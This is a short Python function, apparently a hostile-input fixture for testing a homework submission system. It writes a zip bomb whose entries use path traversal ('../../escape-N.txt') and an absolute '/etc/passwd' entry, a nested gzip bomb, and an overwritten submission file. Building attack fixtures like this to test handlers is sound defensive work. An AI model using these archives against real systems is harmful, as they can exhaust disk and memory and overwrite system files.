import gzip
import io
import zipfile

from attacks.desks import AttackDesk


def hand_in(desk: AttackDesk) -> None:
    layer = gzip.compress(bytes(50_000_000))
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(20):
            archive.writestr(f"../../escape-{number}.txt", layer)
        archive.writestr("/etc/passwd", "x")
    (desk.folder / "answers.zip").write_bytes(bomb.getvalue())
    (desk.folder / "assignment.ipynb.gz").write_bytes(gzip.compress(layer * 20))
    desk.path.write_bytes(bomb.getvalue())
